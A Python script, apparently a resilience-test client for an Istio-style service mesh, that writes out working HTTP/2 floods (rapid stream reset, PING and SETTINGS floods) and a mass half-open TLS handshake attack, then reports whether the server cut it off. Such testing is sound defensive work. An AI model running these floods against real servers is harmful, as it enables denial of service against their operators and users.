"""hostile.py KIND HOST PORT: a client that means harm, and what became of it.

Kinds: resets, pings, settings (HTTP/2 that costs the other side and brings nothing): "ended" or "all taken".
handshakes N ENDED: N are begun and none goes on; says how many the other side has ended, once as many as
ENDED are or 20 seconds are over, and holds the rest until it is sent a line.
raw: sends its standard input and prints what comes until the end.
"""

import select
import socket
import ssl
import struct
import sys
import time

ROUNDS = 20_000
FRAME_HEADERS, FRAME_RESET, FRAME_SETTINGS, FRAME_PING = 1, 3, 4, 6
GET = b"\x82\x84\x86\x41\x01a"  # of HPACK's static table, and :authority a


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def costs(kind, round):
    stream = 1 + 2 * round
    if kind == "resets":
        return frame(FRAME_HEADERS, 5, stream, GET) + frame(FRAME_RESET, 0, stream, struct.pack(">I", 8))
    if kind == "pings":
        return frame(FRAME_PING, 0, 0, bytes(8))
    return frame(FRAME_SETTINGS, 0, 0, struct.pack(">HI", 4, 1000 + round))


def flood(kind, connection):
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(FRAME_SETTINGS, 0, 0, b""))
    try:
        for start in range(0, ROUNDS, 100):
            connection.sendall(b"".join(costs(kind, start + i) for i in range(100)))
            connection.setblocking(False)
            try:
                while connection.recv(1 << 16):
                    pass
                return "ended"
            except BlockingIOError:
                connection.settimeout(20)
        while connection.recv(1 << 16):
            pass  # it has still to read what it was sent
        return "ended"
    except TimeoutError:
        return "all taken"
    except OSError:
        return "ended"


def hello():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["istio"])  # which the mesh answers, whatever its mode
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    except ssl.SSLWantReadError:
        return out.read()


def rest(connection):
    got = b""
    try:
        while more := connection.recv(1 << 16):
            got += more
    except OSError:
        pass
    return got.decode("latin-1")


kind, address = sys.argv[1], (sys.argv[2], int(sys.argv[3]))
if kind == "handshakes":
    begun = []
    for _ in range(int(sys.argv[4])):
        begun.append(socket.create_connection(address, 10))
        begun[-1].sendall(hello())
    wanted, ended, deadline = int(sys.argv[5]), set(), time.monotonic() + 20
    while len(ended) < wanted and time.monotonic() < deadline:
        for connection in select.select([c for c in begun if c not in ended], [], [], 1)[0]:
            try:
                if not connection.recv(1 << 16):
                    ended.add(connection)
            except OSError:
                ended.add(connection)
    print(len(ended), flush=True)
    sys.stdin.readline()
else:
    with socket.create_connection(address, 10) as connection:
        connection.settimeout(20)
        if kind == "raw":
            connection.sendall(sys.stdin.buffer.read())
            print(rest(connection))
        else:
            print(flood(kind, connection))
